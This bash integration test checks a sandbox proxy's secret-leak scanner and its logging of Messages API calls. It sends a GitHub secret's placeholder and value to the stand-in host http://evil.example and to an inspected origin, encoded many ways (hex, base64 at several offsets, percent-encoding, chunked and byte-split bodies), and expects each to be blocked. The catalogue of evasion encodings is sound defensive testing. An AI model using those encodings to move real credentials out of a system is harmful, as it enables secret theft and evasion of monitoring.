#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# secrets-leaks (issue 13): leak blocking on every connection the proxy reads, and model-call records, through
# the real daemon, supervisor, guest and proxy against tests/secrets/origin.py. One box, l1:
#   --secret GH=env:GH@api.github.com --secret ANTHROPIC_API_KEY=env:AK@api.anthropic.com:x-api-key
#   --allow anthropic --allow origin.test.example --allow evil.example --inspect all
# - Leaks: a python client in the box (tests/secrets/sc-client.py) sends GH's placeholder, and GH's value (which
#   the box could only have found by other means: it reaches the client with each byte shifted, so no command
#   line holds it), in every form (raw, upper, lower, hex, HEX, base64, base64url, base64 at the two other
#   alignments, percent-encoded, percent-encoded hex, JSON-escaped, JSON-escaped base64) in a header, the query,
#   the Authorization header, a body and a chunked body split across chunks, and some written a byte at a time,
#   to a plain-HTTP origin (http://evil.example, absolute form) and to an inspected HTTPS origin
#   (https://origin.test.example, bound to no secret: inspected by --inspect all); plus the other secret's
#   placeholder in GH's bound header to GH's bound host. Each is refused (403 secret-leak); the same requests
#   with a token that is no secret pass (so the refusals are the scanner's); the origin's own verdict: none of
#   them reached it with a value or placeholder in any form; one tkbox.secret.leak per refusal in the bundle.
# - Model calls: curl in the box posts to the Messages API stand-in (api.anthropic.com, the anthropic preset,
#   its key swapped into x-api-key), once as JSON and once as an SSE stream: tkbox.model.call records with
#   host, method, path, status, bytes, duration, model and the token counts the responses state; the same
#   request to api.github.com (a secret's host, no model preset) gives no tkbox.model.call.
# - Neither value, nor its first 6 bytes, is in the bundle, the state dir, the logs or what the box printed.
#   tests/secrets/secrets-leaks.sh BUILD_DIR      (root; a few minutes under TCG)
set -u
BUILD=${1:?usage: secrets-leaks.sh BUILD_DIR}
source "$(cd "$(dirname "$0")" && pwd)/lib.sh"

sc_start l1 --secret GH=env:GH@api.github.com --secret ANTHROPIC_API_KEY=env:AK@api.anthropic.com:x-api-key \
	--allow anthropic --allow origin.test.example --allow evil.example --inspect all
O=$WORK/l1
mkdir -p "$O"

# The value, each byte + 1, in hex: what the client turns back into the value.
shifted=$(SC_V=$SC_VALUE python3 -c 'import os; print(bytes((c + 1) % 256 for c in os.environ["SC_V"].encode()).hex())')
specs=()
n_leak=0
for what in ph:GH "val:$shifted"; do
	w=${what%%:*}
	for form in raw upper lower hex HEX b64 b64url b64off1 b64off2 pct pcthex json jsonb64; do
		specs+=("$w-xheader-$form=xheader:$form:$what")
	done
	for form in raw hex b64off1 pct json; do specs+=("$w-query-$form=query:$form:$what"); done
	for form in raw b64 jsonb64; do specs+=("$w-body-$form=body:$form:$what"); done
	for form in raw hex; do specs+=("$w-chunked-$form=chunked:$form:$what"); done
	specs+=("$w-auth-raw=auth:raw:$what")
	specs+=("$w-split-xheader=xheader:raw:$what:1" "$w-split-body=body:raw:$what:1" "$w-split-query-hex=query:hex:$what:1")
done
specs+=("ph-other-secret=xheader:raw:ph:ANTHROPIC_API_KEY")
n_leak=${#specs[@]}
controls=("ctl-xheader=xheader:raw:ctl" "ctl-query=query:hex:ctl" "ctl-body=body:raw:ctl" "ctl-chunked=chunked:raw:ctl"
	"ctl-split=xheader:raw:ctl:1")

for target in http://evil.example https://origin.test.example; do
	tag=${target%%:*}
	f=$O/leaks-$tag.jsonl
	sc_py l1 900 leaks "$target" "${specs[@]}" "${controls[@]}" >"$f"
	bad=0
	for s in "${specs[@]}"; do
		c=${s%%=*}
		st=$(jf "$f" "$c" .status)
		rule=$(jf "$f" "$c" '.rule // ""')
		if [ "$st" = 403 ] && [ "$rule" = secret-leak ]; then
			ok "$tag leak refused: $c"
		else
			notok "$tag leak refused: $c" "$(jq -c --arg c "$c" 'select(.case == $c) | {status, rule, error, connect_status, body: (.body // "" | .[0:160])}' "$f")"
			bad=$((bad + 1))
		fi
	done
	for s in "${controls[@]}"; do
		c=${s%%=*}
		check "$tag control passes (no secret in it): $c ($(jf "$f" "$c" .status))" test "$(jf "$f" "$c" .status)" = 200
	done
	echo "# $tag: $((n_leak - bad)) of $n_leak leaks refused; sample: $(jq -c 'select(.case == "ph-xheader-hex") | {status, rule, body: (.body // "" | .[0:200])}' "$f")"
done
# GH's placeholder outside its bound header, and another secret's placeholder in it, to GH's own bound host.
sc_py l1 120 fetch bound-xheader https://api.github.com/leak/bound-xheader 'X-Data: $GH' >"$O/bound.jsonl"
sc_py l1 120 fetch bound-other https://api.github.com/leak/bound-other 'Authorization: Bearer $ANTHROPIC_API_KEY' >>"$O/bound.jsonl"
for c in bound-xheader bound-other; do
	check "to api.github.com: $c refused ($(jf "$O/bound.jsonl" "$c" .status) $(jf "$O/bound.jsonl" "$c" .rule))" \
		eval "[ '$(jf "$O/bound.jsonl" "$c" .status)' = 403 ] && [ '$(jf "$O/bound.jsonl" "$c" .rule)' = secret-leak ]"
	n_leak=$((n_leak + 1))
done
n_leak_total=$((2 * ${#specs[@]} + 2))

check "the origin's verdict: no value reached it anywhere ($(sc_verdict '.violations[0:3]'))" \
	test "$(sc_verdict '.violations | length')" = 0
check "no placeholder reached it ($(sc_verdict '.placeholders[0:3]'))" test "$(sc_verdict '.placeholders | length')" = 0
n_ctl=$(sc_reqs 'select(.path | startswith("/leak/ctl-")) | .path' | sort -u | wc -l)
check "the controls reached it ($n_ctl distinct of ${#controls[@]})" test "$n_ctl" -eq "${#controls[@]}"

# ---- model calls ---------------------------------------------------------------------------------------
inbox l1 120 sh -c 'curl -sS --max-time 90 https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" \
	-H "anthropic-version: 2023-06-01" -H "content-type: application/json" \
	-d "{\"model\": \"claude-test-1\", \"max_tokens\": 16, \"messages\": [{\"role\": \"user\", \"content\": \"hi\"}]}"' \
	>"$O/model-json.out"
check "Messages API JSON through the proxy: $(head -c 120 "$O/model-json.out")" \
	eval "jq -e '.model == \"claude-test-1\" and .usage.output_tokens == 7' '$O/model-json.out' >/dev/null"
inbox l1 120 sh -c 'curl -sS -N --max-time 90 https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" \
	-H "content-type: application/json" -d "{\"model\": \"claude-test-2\", \"stream\": true, \"max_tokens\": 16}"' \
	>"$O/model-sse.out"
check "Messages API SSE through the proxy ($(grep -c '^event:' "$O/model-sse.out") events)" \
	test "$(grep -c '^event:' "$O/model-sse.out")" = 6
check "the origin got the real key in x-api-key, twice" \
	test "$(sc_reqs 'select(.path == "/v1/messages" and .ok and .host == "api.anthropic.com") | .found[] | select(.allowed and .secret == "ANTHROPIC_API_KEY") | .where' | grep -c 'x-api-key')" = 2
inbox l1 120 sh -c 'curl -sS --max-time 90 https://api.github.com/v1/messages -H "Authorization: Bearer $GH" \
	-H "content-type: application/json" -d "{\"model\": \"claude-test-3\"}"' >"$O/model-github.out"
check "the same request to api.github.com answers (a secret's host)" \
	eval "jq -e '.model == \"claude-test-3\"' '$O/model-github.out' >/dev/null"

# ---- the record ----------------------------------------------------------------------------------------
"$TKBOX" stop l1 >/dev/null 2>&1
if eg_export_verify l1; then ok "l1's bundle verifies"; else notok "l1's bundle verifies" "$(tail -3 "$WORK/verify-l1.out" 2>/dev/null)"; fi
R=$WORK/l1.records.jsonl
bundle_egress "$WORK/l1.tkb" >"$R" 2>/dev/null
n_rec=$(jq -s '[.[] | select(.kind == "tkbox.secret.leak")] | length' "$R")
check "one tkbox.secret.leak per refused request ($n_rec for $n_leak_total)" test "${n_rec:-0}" -ge "$n_leak_total"
echo "# tkbox.secret.leak sample: $(jq -c 'select(.kind == "tkbox.secret.leak") | .data' "$R" | head -n 3 | tr '\n' ' ')"
n_bad=$(jq -s '[.[] | select(.kind == "tkbox.secret.leak") | .data | select((.name | IN("GH", "ANTHROPIC_API_KEY") | not) or ((.host // "") == "") or ((.reason // "") == ""))] | length' "$R")
check "every tkbox.secret.leak names its secret, host and reason ($n_bad do not)" test "${n_bad:-1}" = 0
n_bad=$(jq -s '[.[] | select(.kind == "tkbox.secret.leak") | .data | select(. as $d | $d.reason | contains(" of " + $d.name + " ") | not)] | length' "$R")
check "every tkbox.secret.leak's reason names the same secret as its record ($n_bad do not: $(jq -c 'select(.kind == "tkbox.secret.leak") | .data | select(. as $d | $d.reason | contains(" of " + $d.name + " ") | not)' "$R" | head -n 1))" \
	test "${n_bad:-1}" = 0
for h in evil.example origin.test.example api.github.com; do
	check "tkbox.secret.leak records for $h, naming GH" \
		eval "jq -s -e 'any(.[]; .kind == \"tkbox.secret.leak\" and .data.host == \"$h\" and .data.name == \"GH\")' '$R' >/dev/null"
done
reasons=$(jq -r 'select(.kind == "tkbox.secret.leak") | .data.reason' "$R" | sort -u)
echo "# tkbox.secret.leak reasons (sample): $(head -n 4 <<<"$reasons" | tr '\n' '|')"
for w in hex base64; do
	check "a leak reason names the $w form" grep -qi "$w" <<<"$reasons"
done
calls=$(jq -c 'select(.kind == "tkbox.model.call") | .data' "$R")
echo "# tkbox.model.call: $(tr '\n' ' ' <<<"$calls")"
check "tkbox.model.call for the JSON call: host, POST /v1/messages, 200, model claude-test-1, tokens 12 in 7 out, bytes, duration" \
	eval "jq -s -e 'any(.[]; .host == \"api.anthropic.com\" and .method == \"POST\" and .path == \"/v1/messages\" and .status == 200 and .model == \"claude-test-1\" and .input_tokens == 12 and .output_tokens == 7 and .bytes_up > 0 and .bytes_down > 0 and .bytes == .bytes_up + .bytes_down and (.duration_ms | type) == \"number\")' <<<'$calls' >/dev/null"
check "tkbox.model.call for the SSE stream: model claude-test-2, tokens 21 in 9 out (the last count)" \
	eval "jq -s -e 'any(.[]; .model == \"claude-test-2\" and .input_tokens == 21 and .output_tokens == 9)' <<<'$calls' >/dev/null"
check "no tkbox.model.call for api.github.com (a secret's host is not a model host)" \
	eval "! jq -s -e 'any(.[]; .host == \"api.github.com\")' <<<'$calls' >/dev/null"
mkdir -p "$WORK/l1-bundle"
(cd "$WORK/l1-bundle" && python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extractall(".")' "$WORK/l1.tkb")
held=$(sc_seen_in "$WORK/l1-bundle" "$WORK/l1.tkb" "$R" "$TKBOX_STATE_DIR" "$WORK/daemon.log" "$WORK/signer.log" "$WORK/signer" "$O")
check "neither value nor its first 6 bytes in the bundle, state dir, logs or box output ${held:+(in: $held)}" test -z "$held"

echo "# total $(elapsed "$T0") s"
echo "1..$((pass + fail))"
[ $fail -eq 0 ]
